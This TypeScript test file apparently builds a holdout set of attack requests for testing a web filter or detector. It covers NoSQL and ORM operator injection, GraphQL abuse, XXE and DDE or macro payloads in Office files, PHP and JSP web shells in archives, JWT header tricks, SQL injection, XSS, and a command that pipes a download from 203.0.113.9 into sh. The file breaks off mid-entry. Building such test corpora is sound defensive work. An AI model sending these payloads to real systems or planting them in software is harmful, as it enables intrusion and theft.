// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attacks have it
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { archive } from '../../support/archive.ts';
import {
  browser,
  browserForm,
  browserJson,
  browserParts,
  client,
  clientForm,
  clientJson,
  get,
  token,
} from '../../support/clients.ts';
import type { HoldoutRequest } from '../../support/request.ts';

const b64 = (value: string | Buffer): string => Buffer.from(value as string).toString('base64');
const b64url = (value: unknown): string =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const raw = (target: string, ...headers: string[]): HoldoutRequest => client('GET', target, headers);
const bearer = (head: object, claims: object = { sub: '7' }): HoldoutRequest =>
  raw('/me', 'Authorization', `Bearer ${token(head, claims)}`);
const upload = (file: string, type: string, content: string | Buffer): HoldoutRequest =>
  browserParts('/files', [
    { name: '_csrf', content: 'Zk81qL' },
    { name: 'file', file, type, content },
  ]);
const OFFICE = 'application/vnd.openxmlformats-officedocument.';
const XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>';
const REMOTE = '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://203.0.113.9/r.dtd">';
const TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>';
const frame = (bytes: Buffer): Buffer => {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([head, bytes]);
};
const field = (number: number, text: string): Buffer => {
  const bytes = Buffer.from(text);
  const length = bytes.length < 128 ? [bytes.length] : [(bytes.length & 127) | 128, bytes.length >> 7];
  return Buffer.concat([Buffer.from([(number << 3) | 2, ...length]), bytes]);
};
const SQL = "7' UNION SELECT login,pw FROM staff -- ";
const SCRIPT = '<img src=x onerror=alert(document.domain)>';
const COMMAND = '; curl http://203.0.113.9/a | sh';
const each = (
  title: string,
  values: Readonly<Record<string, string>>,
  make: (text: string) => HoldoutRequest,
): Record<string, HoldoutRequest> =>
  Object.fromEntries(Object.entries(values).map(([name, text]) => [`${title}, ${name}`, make(text)]));
const THREE = { SQL, script: SCRIPT, command: COMMAND };
const signalr = (text: string): string =>
  `${JSON.stringify({ type: 1, target: 'Send', arguments: ['ann', text] })}\u001e`;
const samlXml = (name: string): string =>
  `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_7"><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><saml:Subject><saml:NameID>${name}</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>`;
const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

/** Of the set `query-languages`: what has one place only; written before any rule was tried on it. */
export const QUERY_LANGUAGE_WHOLE: Readonly<Record<string, HoldoutRequest>> = {
  // Operators in every notation that a body or a query has.
  'operator: brackets in a query': raw('/login?user[$ne]=1&pass[$ne]=1'),
  'operator: coded brackets': raw('/login?user%5B%24gt%5D=&pass%5B%24gt%5D='),
  'operator: brackets twice coded': raw('/login?user%255B%2524ne%255D=1'),
  'operator: brackets with a list': raw('/users?role[$in][]=admin&role[$in][]=root'),
  'operator: in a form': clientForm('/login', { 'user[$regex]': '^adm', 'pass[$exists]': 'true' }),
  'operator: in parts': browserParts('/login', [
    { name: 'user', content: 'admin' },
    { name: 'pass[$ne]', content: 'x' },
  ]),
  'operator: in JSON': browserJson('/login', { user: 'admin', pass: { $ne: null } }),
  'operator: in JSON, escaped': client(
    'POST',
    '/login',
    ['Content-Type', 'application/json'],
    '{"user":"admin","pass":{"\\u0024ne":null}}',
  ),
  'operator: in JSON in a query': get('/users', { where: '{"pin":{"$gt":""}}' }),
  'operator: in JSON in a cookie': raw('/', 'Cookie', `filter=${encodeURIComponent('{"u":{"$ne":1}}')}`),
  'operator: in JSON in a header': raw('/', 'X-Filter', '{"owner":{"$exists":false}}'),
  'operator: in YAML': client(
    'POST',
    '/q',
    ['Content-Type', 'application/yaml'],
    'user: admin\npass:\n  $ne: x\n',
  ),
  'operator: in XML': client('POST', '/q', ['Content-Type', 'text/xml'], '<q><pass>{"$ne":1}</pass></q>'),
  'operator: in points': raw('/users?pass.$ne=1'),
  'operator: in base64 of JSON': get('/users', { q: b64('{"pass":{"$gt":""}}') }),
  'operator: an aggregation': clientJson('/report', {
    pipeline: [{ $lookup: { from: 'users', pipeline: [{ $project: { hash: 1 } }], as: 'u' } }],
  }),
  'operator: a union': clientJson('/report', [{ $match: {} }, { $unionWith: { coll: 'tokens' } }]),
  'operator: a function': clientJson('/report', {
    $project: { x: { $function: { body: 'function(){ while(1); }', args: [], lang: 'js' } } },
  }),
  'operator: mapReduce': clientJson('/run', {
    mapReduce: 'users',
    map: 'function(){emit(this._id,this.pw)}',
    reduce: 'function(k,v){return v}',
    out: { inline: 1 },
  }),
  'operator: an update': clientJson('/me', { $set: { role: 'admin' } }),
  'operator: a rename': clientJson('/me', { $rename: { role: 'old', guest: 'role' } }),
  'ORM: a pattern of Django': raw('/users?password__regex=^pbkdf'),
  'ORM: a start of Django': clientJson('/api/users', { is_superuser: true, password__startswith: 'p' }),
  'ORM: a relation of Django': raw('/articles?created_by__user__password__contains=a'),
  'ORM: a connector of Django': clientJson('/search', { name: 'a', _connector: 'OR 1=1 OR' }),
  'ORM: an alias of Django': clientJson('/annotate', { 'a" , (select password from auth_user) "': 1 }),
  'ORM: an extract of Django': raw("/stats?lookup=year' FROM now()) OR 1=1 --"),
  'ORM: a key of JSON of Django': raw("/p?data__a'%20%3d%20'\"a\"')%20OR%201%3d1%20OR%20('d=1"),
  'ORM: Ransack': raw('/posts?q[user_reset_password_token_start]=0'),
  'ORM: Ransack, a digest': raw('/posts?q[user_password_digest_cont]=a'),
  'ORM: Prisma, a relation': clientJson('/posts', {
    where: { author: { password: { startsWith: '$2b' } } },
  }),
  'ORM: Prisma, by brackets': raw('/posts?where[author][resetToken][startsWith]=a'),
  'ORM: Prisma, not': clientJson('/reset', { resetToken: { not: 'x' } }),
  'ORM: Prisma, include': raw('/posts?include[author]=true&select[author][select][password]=true'),
  'ORM: Sequelize': raw('/users?where[password][$like]=a%25'),
  'ORM: Sequelize, a literal': clientJson('/users', {
    order: [{ val: '(SELECT pw FROM users LIMIT 1)', type: 'literal' }],
  }),
  'ORM: TypeORM': clientJson('/login', {
    username: 'admin',
    password: { '@instanceof': 'FindOperator', _type: 'not', _value: 'x' },
  }),
  'ORM: Knex, an object': clientJson('/login', { name: { name: 1 }, password: { password: 1 } }),
  'ORM: mysql2, an object': raw('/login?username=admin&password[password]=1'),
  'ORM: OData': raw("/odata/Users?$filter=startswith(Password,'a')"),
  'ORM: OData, a function': raw("/odata/Orders?$filter=1 eq 1 or Name eq 'a'".replaceAll(' ', '%20')),
  'ORM: OData, expand': raw('/odata/Orders?$expand=Customer($select=PasswordHash,SecurityStamp)'),
  'ORM: JSON:API': raw('/users?filter[password][like]=a%25'),
  'ORM: PostgREST': raw('/users?select=*,auth_users(encrypted_password)'),
  'ORM: PostgREST, or': raw('/users?or=(id.gt.0,password.like.a*)'),
  'ORM: Hasura': clientJson('/v1/graphql', {
    query: '{users(where:{_or:[{password:{_like:"a%"}},{}]}){id}}',
  }),
  'ORM: Hasura, SQL': clientJson('/v2/query', { type: 'run_sql', args: { sql: 'SELECT * FROM users' } }),
  'ORM: Strapi': raw('/api/articles?filters[createdBy][password][$startsWith]=a'),
  'ORM: Strapi, a reset': clientJson('/admin/auth/reset-password', {
    code: { $gt: 0 },
    password: 'Xy1!xxxx',
  }),
  'ORM: Directus': raw(
    '/items/a?filter={"user_created":{"password":{"_starts_with":"a"}}}'.replaceAll('"', '%22'),
  ),
  'ORM: Parse': clientJson('/parse/classes/_User', { _method: 'GET', where: { password: { $regex: '^a' } } }),
  'ORM: Firebase': raw('/users.json?orderBy="password"&startAt=""'.replaceAll('"', '%22')),
  'ORM: a class in a name': clientForm('/orders', {
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern': '%25x',
  }),
  'ORM: a sort that is a query': raw(
    '/users?sort=(CASE%20WHEN%20(SELECT%201)=1%20THEN%20id%20ELSE%20name%20END)',
  ),

  // GraphQL
  'GraphQL: 120 aliases': clientJson('/graphql', {
    query: `{${Array.from({ length: 120 }, (_, at) => `a${at}:login(pin:"${1000 + at}"){token}`).join(' ')}}`,
  }),
  'GraphQL: 120 aliases by GET': get('/graphql', {
    query: `{${Array.from({ length: 120 }, (_, at) => `b${at}:user(id:${at}){email}`).join(',')}}`,
  }),
  'GraphQL: 300 in a batch': client(
    'POST',
    '/graphql',
    ['Content-Type', 'application/json'],
    JSON.stringify(Array.from({ length: 300 }, (_, at) => ({ query: `mutation{check(code:"${at}"){ok}}` }))),
  ),
  'GraphQL: deep': clientJson('/graphql', {
    query: `{${'posts{author{'.repeat(60)}id${'}}'.repeat(60)}}`,
  }),
  'GraphQL: fragments in a circle': clientJson('/graphql', {
    query: '{me{...A}} fragment A on U{...B} fragment B on U{...A}',
  }),
  'GraphQL: a field 2,000 times': clientJson('/graphql', { query: `{me{${'id '.repeat(2000)}}}` }),
  'GraphQL: directives 500 times': clientJson('/graphql', {
    query: `{me{id ${'@skip(if:false)'.repeat(500)}}}`,
  }),
  'GraphQL: a form of another site': clientForm('/graphql', {
    query: 'mutation{setEmail(email:"a@evil.example"){id}}',
  }),
  'GraphQL: SQL in a default': clientJson('/graphql', { query: `query($a:String="${SQL}"){user(n:$a){id}}` }),
  'GraphQL: an operator in a variable': clientJson('/graphql', {
    query: 'query($f:JSON){users(filter:$f){id}}',
    variables: { f: { pin: { $regex: '^1' } } },
  }),
  'GraphQL: an operator in a literal': clientJson('/graphql', {
    query: '{users(filter:"{\\"pin\\":{\\"$ne\\":null}}"){id}}',
  }),
  'GraphQL: a command in a block string': clientJson('/graphql', {
    query: `{ping(host:"""a${COMMAND}"""){out}}`,
  }),
  'GraphQL: a script in an escaped string': clientJson('/graphql', {
    query: 'mutation{note(text:"\\u003cimg src=x onerror=alert(1)\\u003e"){id}}',
  }),
  'GraphQL: uploads that climb': browserParts('/graphql', [
    {
      name: 'operations',
      content: '{"query":"mutation($f:Upload!){up(file:$f){id}}","variables":{"f":null}}',
    },
    { name: 'map', content: '{"0":["variables.f"]}' },
    { name: '0', file: '../../../../etc/cron.d/x', type: 'text/plain', content: 'x' },
  ]),
  'GraphQL: uploads onto a prototype': browserParts('/graphql', [
    {
      name: 'operations',
      content: '{"query":"mutation($f:Upload!){up(file:$f){id}}","variables":{"f":null}}',
    },
    { name: 'map', content: '{"0":["__proto__.isAdmin"]}' },
    { name: '0', file: 'a.txt', type: 'text/plain', content: 'x' },
  ]),

  // Office documents and archives
  'office: XXE in DOCX': upload(
    'cv.docx',
    `${OFFICE}wordprocessingml.document`,
    archive({ '[Content_Types].xml': TYPES, 'word/document.xml': `${XXE}<w:document>&e;</w:document>` }),
  ),
  'office: XXE in DOCX, streamed': upload(
    'cv.docx',
    `${OFFICE}wordprocessingml.document`,
    archive(
      { '[Content_Types].xml': TYPES, 'word/document.xml': `${XXE}<w:document>&e;</w:document>` },
      { how: 'streamed' },
    ),
  ),
  'office: XXE in XLSX, stored': upload(
    't.xlsx',
    `${OFFICE}spreadsheetml.sheet`,
    archive({ '[Content_Types].xml': TYPES, 'xl/sharedStrings.xml': `${REMOTE}<sst/>` }, { how: 'stored' }),
  ),
  'office: XXE in XLSX': upload(
    't.xlsx',
    `${OFFICE}spreadsheetml.sheet`,
    archive({ '[Content_Types].xml': TYPES, 'xl/workbook.xml': `${REMOTE}<workbook/>` }),
  ),
  'office: XXE in PPTX': upload(
    't.pptx',
    `${OFFICE}presentationml.presentation`,
    archive({ 'ppt/presentation.xml': `${XXE}<p:presentation>&e;</p:presentation>` }),
  ),
  'office: XXE in content types': upload(
    't.docx',
    'application/octet-stream',
    archive({ '[Content_Types].xml': `${XXE}<Types>&e;</Types>` }),
  ),
  'office: XXE in ODT': upload(
    't.odt',
    'application/vnd.oasis.opendocument.text',
    archive({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml': `${XXE}<office:document-content>&e;</office:document-content>`,
    }),
  ),
  'office: XXE in EPUB': upload(
    'b.epub',
    'application/epub+zip',
    archive({
      mimetype: 'application/epub+zip',
      'META-INF/container.xml': `${XXE}<container>&e;</container>`,
    }),
  ),
  'office: a template from elsewhere': upload(
    't.docx',
    `${OFFICE}wordprocessingml.document`,
    archive({
      '[Content_Types].xml': TYPES,
      'word/_rels/settings.xml.rels':
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>',
    }),
  ),
  'office: an object from elsewhere': upload(
    't.docx',
    `${OFFICE}wordprocessingml.document`,
    archive({
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="mhtml:http://203.0.113.9/a.html!x-usc:http://203.0.113.9/a.html" TargetMode="External"/></Relationships>',
    }),
  ),
  'office: a macro in DOCX': upload(
    't.docx',
    `${OFFICE}wordprocessingml.document`,
    archive({
      '[Content_Types].xml': TYPES,
      'word/vbaProject.bin': 'Attribute VB_Name = "A"\r\nSub AutoOpen()\r\nShell "cmd /c calc"\r\nEnd Sub',
    }),
  ),
  'office: DDE in DOCX': upload(
    't.docx',
    `${OFFICE}wordprocessingml.document`,
    archive({
      'word/document.xml':
        '<w:document><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:document>',
    }),
  ),
  'office: DDE in XLSX': upload(
    't.xlsx',
    `${OFFICE}spreadsheetml.sheet`,
    archive({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
  ),
  'office: a command of Excel 4': upload(
    't.xlsm',
    'application/vnd.ms-excel.sheet.macroenabled.12',
    archive({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet><f>EXEC("cmd /c calc")</f></xm:macrosheet>' }),
  ),
  'office: a script in ODF': upload(
    't.odt',
    'application/vnd.oasis.opendocument.text',
    archive({
      'content.xml':
        '<office:document-content><office:scripts><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:../../../../tmp/a.py$run?language=Python&amp;location=share"/></office:scripts></office:document-content>',
    }),
  ),
  'office: a formula that runs': upload(
    't.xlsx',
    `${OFFICE}spreadsheetml.sheet`,
    archive({ 'xl/worksheets/sheet1.xml': "<worksheet><c><f>cmd|' /C calc'!A0</f></c></worksheet>" }),
  ),
  'office: RTF with an object': upload(
    't.rtf',
    'application/rtf',
    '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 01050000}{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}}}}',
  ),
  'office: a query of the web': upload(
    't.iqy',
    'text/plain',
    "WEB\n1\nhttp://203.0.113.9/a\n=cmd|'/c calc'!A0\n",
  ),
  'office: SLK': upload(
    't.slk',
    'text/plain',
    'ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC("calc.exe")\nE\n',
  ),
  'archive: a climb, packed': upload(
    'a.zip',
    'application/zip',
    archive({ 'a.txt': 'x', '../../../../var/www/html/x.php': 'x' }),
  ),
  'archive: a climb, streamed': upload(
    'a.zip',
    'application/zip',
    archive({ 'a.txt': 'x'.repeat(90), '..\\..\\web\\x.aspx': 'x' }, { how: 'streamed' }),
  ),
  'archive: a root': upload('a.zip', 'application/zip', archive({ '/etc/cron.d/x': '* * * * * root id' })),
  'archive: PHP in a plug-in': upload(
    'a.zip',
    'application/zip',
    archive({ 'a/a.php': '<?php system($_GET["c"]); ?>' }),
  ),
  'archive: JSP in a WAR': upload(
    'a.war',
    'application/java-archive',
    archive({ 'x.jsp': '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' }),
  ),
  'archive: SVG in a ZIP': upload(
    'a.zip',
    'application/zip',
    archive({ 'a.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' }),
  ),
  'archive: a ZIP as a body': client(
    'POST',
    '/import',
    ['Content-Type', 'application/zip'],
    archive({ '../../x.jsp': 'x' }),
  ),
  'archive: a ZIP in base64 of JSON': clientJson('/import', {
    name: 'a.docx',
    data: b64(archive({ 'word/document.xml': `${XXE}<a>&e;</a>` })),
  }),
  'archive: a ZIP in a data URL': clientJson('/import', {
    file: `data:application/zip;base64,${b64(archive({ '../../../x.php': 'x' }))}`,
  }),
  'archive: KMZ with XXE': upload(
    'a.kmz',
    'application/vnd.google-earth.kmz',
    archive({ 'doc.kml': `${XXE}<kml>&e;</kml>` }),
  ),
  'archive: a pickle of a model': upload(
    'a.pt',
    'application/octet-stream',
    archive(
      { 'a/data.pkl': '\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.' },
      { how: 'stored' },
    ),
  ),
  'archive: XXE in gzip': upload('a.svgz', 'image/svg+xml', gzipSync(`${XXE}<svg>&e;</svg>`)),
  'archive: a script in SVGZ': upload(
    'a.svgz',
    'image/svg+xml',
    gzipSync('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  ),
  'archive: a dump that is packed': upload(
    'a.sql.gz',
    'application/gzip',
    gzipSync('<?php system($_GET["c"]); ?>'),
  ),

  // Texts within texts
  'within: SVG in a data URL': browserJson('/me', {
    avatar: `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')}`,
  }),
  'within: SVG in a base64 URL': browserJson('/me', {
    avatar: `data:image/svg+xml;base64,${b64('<svg><script>alert(1)</script></svg>')}`,
  }),
  'within: SVG in UTF-8 in a URL': browserForm('/me', {
    avatar:
      'data:image/svg+xml;charset=utf-8,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>alert(1)</script></svg>',
  }),
  'within: SVG in markdown': browserJson('/notes', {
    text: `![a](data:image/svg+xml;base64,${b64('<svg onload=alert(1)>')})`,
  }),
  'within: SVG in CSS': browserForm('/theme', {
    css: `a{background:url("data:image/svg+xml;base64,${b64(`${XXE}<svg>&e;</svg>`)}")}`,
  }),
  'within: HTML in a data URL': browserForm('/link', {
    url: `data:text/html;base64,${b64('<script>alert(1)</script>')}`,
  }),
  'within: a document of an iframe': browserForm('/cms', {
    html: '<iframe srcdoc="&lt;script&gt;parent.x()&lt;/script&gt;"></iframe>',
  }),
  ...each('within: JSON in XML in parts', THREE, (text) =>
    browserParts('/in', [
      {
        name: 'doc',
        file: 'a.xml',
        type: 'text/xml',
        content: `<e><j>${escaped(JSON.stringify({ a: { b: text } }))}</j></e>`,
      },
    ]),
  ),
  ...each('within: JSON in CDATA', THREE, (text) =>
    client(
      'POST',
      '/in',
      ['Content-Type', 'text/xml'],
      `<e><j><![CDATA[${JSON.stringify({ a: [text] })}]]></j></e>`,
    ),
  ),
  ...each('within: XML in JSON', THREE, (text) =>
    clientJson('/in', { doc: `<?xml version="1.0"?><a><b c="${escaped(text)}"/></a>` }),
  ),
  ...each('within: JSON in JSON in JSON', THREE, (text) =>
    clientJson('/in', { a: JSON.stringify({ b: JSON.stringify({ c: text }) }) }),
  ),
  ...each('within: a form in JSON', THREE, (text) =>
    clientJson('/in', { body: `a=1&b=${encodeURIComponent(text)}` }),
  ),
  ...each('within: a form in JSON in base64', THREE, (text) =>
    clientJson('/in', { isBase64Encoded: true, body: b64(`a=1&b=${encodeURIComponent(text)}`) }),
  ),
  ...each('within: YAML in JSON', THREE, (text) =>
    clientJson('/in', { spec: `a: 1\nb:\n  - c: ${JSON.stringify(text)}\n` }),
  ),
  ...each('within: CSV in JSON', THREE, (text) =>
    clientJson('/in', { csv: `id,name\n1,"${text.replaceAll('"', '""')}"\n` }),
  ),
  ...each('within: a mail in JSON', THREE, (text) =>
    clientJson('/in', {
      raw: `From: a@a.example\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(`Hello, ${text}`)}\r\n`,
    }),
  ),
  ...each('within: a message of pub/sub', THREE, (text) =>
    clientJson('/push', {
      message: { data: b64(JSON.stringify({ user: text })), messageId: '7' },
      subscription: 'a',
    }),
  ),
  ...each('within: a record of Kinesis', THREE, (text) =>
    clientJson('/push', {
      records: [{ recordId: '1', data: b64(gzipSync(JSON.stringify({ logEvents: [{ message: text }] }))) }],
    }),
  ),
  ...each('within: a packet of Socket.IO', THREE, (text) =>
    browser(
      'POST',
      '/socket.io/?EIO=4&transport=polling&sid=a',
      ['Content-Type', 'text/plain;charset=UTF-8'],
      `42["event",${JSON.stringify({ name: text })}]`,
    ),
  ),
  ...each('within: a packet with a namespace', THREE, (text) =>
    browser(
      'POST',
      '/socket.io/?EIO=4&transport=polling&sid=a',
      ['Content-Type', 'text/plain;charset=UTF-8'],
      `42/admin,17["save",${JSON.stringify({ rows: [{ v: text }] })}]`,
    ),
  ),
  ...each('within: packets in a row', THREE, (text) =>
    browser(
      'POST',
      '/socket.io/?EIO=4&transport=polling&sid=a',
      ['Content-Type', 'text/plain;charset=UTF-8'],
      `2\u001e42["a",1]\u001e42["b",${JSON.stringify(text)}]`,
    ),
  ),
  ...each('within: packets of the old kind', THREE, (text) =>
    browser(
      'POST',
      '/socket.io/?EIO=3&transport=polling&sid=a',
      ['Content-Type', 'text/plain;charset=UTF-8'],
      `${`42["b",${JSON.stringify(text)}]`.length}:42["b",${JSON.stringify(text)}]`,
    ),
  ),
  ...each('within: SignalR', THREE, (text) =>
    browser('POST', '/hub?id=a', ['Content-Type', 'text/plain;charset=UTF-8'], signalr(text)),
  ),
  ...each('within: SockJS', THREE, (text) =>
    browser(
      'POST',
      '/sockjs/000/a/xhr_send',
      ['Content-Type', 'text/plain'],
      JSON.stringify([JSON.stringify({ type: 'publish', body: text })]),
    ),
  ),
  ...each('within: STOMP', THREE, (text) =>
    browser(
      'POST',
      '/sockjs/000/a/xhr_send',
      ['Content-Type', 'text/plain'],
      JSON.stringify([`SEND\ndestination:/app/a\n\n${JSON.stringify({ m: text })}\0`]),
    ),
  ),
  ...each('within: gRPC-web', THREE, (text) =>
    client(
      'POST',
      '/shop.Users/Find',
      ['Content-Type', 'application/grpc-web+proto', 'X-Grpc-Web', '1'],
      frame(field(1, text)),
    ),
  ),
  ...each('within: gRPC-web in base64', THREE, (text) =>
    client(
      'POST',
      '/shop.Users/Find',
      ['Content-Type', 'application/grpc-web-text'],
      b64(frame(Buffer.concat([field(1, 'ann'), field(3, text)]))),
    ),
  ),
  ...each('within: protobuf in protobuf', THREE, (text) =>
    client(
      'POST',
      '/rpc',
      ['Content-Type', 'application/x-protobuf'],
      field(2, field(1, text).toString('latin1')),
    ),
  ),
  ...each('within: Connect by GET', THREE, (text) =>
    get('/shop.Users/Find', {
      connect: 'v1',
      encoding: 'proto',
      base64: '1',
      message: b64url(field(1, text).toString('latin1')),
    }),
  ),
  ...each('within: Twirp', THREE, (text) => clientJson('/twirp/shop.Users/Find', { filter: { name: text } })),
  ...each('within: SAML in base64', THREE, (text) =>
    browserForm('/acs', { SAMLResponse: b64(samlXml(escaped(text))) }),
  ),
  ...each('within: SAML, packed', THREE, (text) =>
    get('/sso', { SAMLRequest: b64(deflateRawSync(samlXml(escaped(text)))), RelayState: '/' }),
  ),
  'within: SAML with XXE, packed': get('/sso', {
    SAMLRequest: b64(deflateRawSync(`${XXE}<samlp:AuthnRequest>&e;</samlp:AuthnRequest>`)),
  }),
  'within: SAML with a style sheet': browserForm('/acs', {
    SAMLResponse: b64(
      '<samlp:Response><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0"><xsl:template match="/"><xsl:value-of select="unparsed-text(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet></ds:Transform></samlp:Response>',
    ),
  }),
  ...each('within: a claim of a token', THREE, (text) => bearer({ alg: 'HS256' }, { user: { name: text } })),
  ...each('within: a token in a token', THREE, (text) =>
    bearer({ alg: 'RS256', cty: 'JWT' }, { act: token({ alg: 'HS256' }, { sub: text }) }),
  ),
  ...each('within: a token in a cookie', THREE, (text) =>
    raw('/', 'Cookie', `session=${token({ alg: 'HS256' }, { n: text })}`),
  ),
  ...each('within: a session of Flask', THREE, (text) =>
    raw(
      '/',
      'Cookie',
      `session=.${Buffer.from(deflateSync(JSON.stringify({ u: text.repeat(3) }))).toString('base64url')}.aSd1.x1`,
    ),
  ),
  ...each('within: a session of Express', THREE, (text) =>
    raw('/', 'Cookie', `sess=${b64(JSON.stringify({ passport: { user: text } }))}; sess.sig=ab12`),
  ),
  ...each('within: a state in a fragment of a URL', THREE, (text) =>
    get('/cb', { return: `https://shop.example/#state=${encodeURIComponent(JSON.stringify({ q: text }))}` }),
  ),
  ...each('within: a query in an address', THREE, (text) =>
    clientJson('/fetch', { url: `https://shop.example/s?q=${encodeURIComponent(text)}` }),
  ),
  ...each('within: a curl in a notebook', THREE, (text) =>
    clientJson('/cells', { cells: [{ source: [`x = """${text}"""`], metadata: { name: text } }] }),
  ),
  ...each('within: a batch of OData', THREE, (text) =>
    client(
      'POST',
      '/odata/$batch',
      ['Content-Type', 'multipart/mixed; boundary=b1'],
      `--b1\r\nContent-Type: application/http\r\n\r\nPOST Notes HTTP/1.1\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ t: text })}\r\n--b1--\r\n`,
    ),
  ),
  ...each('within: a batch of JSON', THREE, (text) =>
    clientJson('/batch', {
      requests: [{ id: '1', method: 'GET', url: `/users?q=${encodeURIComponent(text)}` }],
    }),
  ),
  ...each('within: MessagePack', THREE, (text) =>
    client(
      'POST',
      '/rpc',
      ['Content-Type', 'application/msgpack'],
      Buffer.concat([Buffer.from([0x81, 0xa1, 0x71, 0xd9, text.length]), Buffer.from(text)]),
    ),
  ),
  ...each('within: CBOR', THREE, (text) =>
    client(
      'POST',
      '/rpc',
      ['Content-Type', 'application/cbor'],
      Buffer.concat([Buffer.from([0xa1, 0x61, 0x71, 0x78, text.length]), Buffer.from(text)]),
    ),
  ),
  ...each('within: AMF', THREE, (text) =>
    client(
      'POST',
      '/gateway',
      ['Content-Type', 'application/x-amf'],
      Buffer.concat([
        Buffer.from([0, 3, 0, 0, 0, 1, 0, 1, 0x61, 0, 1, 0x62, 0, 0, 0, 0, 2, 0, text.length]),
        Buffer.from(text),
      ]),
    ),
  ),
  ...each('within: a WebDAV search', THREE, (text) =>
    client(
      'SEARCH',
      '/dav',
      ['Content-Type', 'text/xml'],
      `<D:searchrequest xmlns:D="DAV:"><D:basicsearch><D:where><D:eq><D:literal>${escaped(text)}</D:literal></D:eq></D:where></D:basicsearch></D:searchrequest>`,
    ),
  ),
  ...each('within: a calendar', THREE, (text) =>
    client(
      'PUT',
      '/cal/1.ics',
      ['Content-Type', 'text/calendar'],
      `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:${text}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
    ),
  ),
  ...each('within: a card', THREE, (text) =>
    upload('a.vcf', 'text/vcard', `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:${text}\r\nEND:VCARD\r\n`),
  ),

  // Known passes, and what stands near them
  'token: a pipe in kid': bearer({ alg: 'HS256', kid: 'keys/7|id' }),
  'token: a command in kid': bearer({ alg: 'HS256', kid: '/var/keys/a.pem;touch /tmp/x' }),
  'token: a path in kid': bearer({ alg: 'HS256', kid: '/dev/null' }),
  'token: a file in kid': bearer({ alg: 'HS256', kid: '/proc/sys/kernel/randomize_va_space' }),
  'token: a file of the page in kid': bearer({ alg: 'HS256', kid: 'public/css/main.css' }),
  'token: a climb in kid': bearer({ alg: 'HS256', kid: '..\\..\\windows\\win.ini' }),
  'token: LDAP in kid': bearer({ alg: 'HS256', kid: '*)(cn=*' }),
  'token: an address in kid': bearer({ alg: 'HS256', kid: 'http://203.0.113.9/k' }),
  'token: a foreign jku': bearer({ alg: 'RS256', jku: 'https://evil.example/jwks.json' }),
  'token: a foreign x5u': bearer({ alg: 'RS256', x5u: 'https://evil.example/c.pem' }),
  'token: a jku without a scheme': bearer({ alg: 'RS256', jku: '//evil.example/k' }),
  'token: a key of its own': bearer({ alg: 'RS256', jwk: { kty: 'RSA', n: 'sXch', e: 'AQAB' } }),
  'token: nothing for a signature': raw(
    '/me',
    'Authorization',
    `Bearer ${b64url({ alg: 'HS256' })}.${b64url({ role: 'admin' })}.`,
  ),
  'token: none, escaped': raw(
    '/me',
    'Authorization',
    `Bearer ${b64url('{"alg":"\\u006eone"}')}.${b64url({ role: 'admin' })}.`,
  ),
  'SQL: a lone INSERT': clientForm('/run', {
    q: "INSERT INTO wp_users (user_login, user_pass) VALUES ('eve', MD5('x'))",
  }),
  'SQL: a lone INSERT without columns': clientForm('/run', { q: "insert into admins values (1,'eve','x')" }),
  'SQL: a lone INSERT of a query': clientForm('/run', { q: 'INSERT INTO copied SELECT * FROM users' }),
  'SQL: a lone REPLACE': clientForm('/run', { q: "REPLACE INTO settings (k,v) VALUES ('role','admin')" }),
  'SQL: a lone UPDATE': clientForm('/run', { q: "UPDATE users SET role='admin' WHERE id=7" }),
  'SQL: a lone DELETE': clientForm('/run', { q: 'DELETE FROM audit WHERE 1=1' }),
  'SQL: a lone MERGE': clientForm('/run', {
    q: "MERGE INTO users u USING dual ON (u.id=7) WHEN MATCHED THEN UPDATE SET u.role='admin'",
  }),
  'coded: base64 behind four decoys': browserJson('/n', {
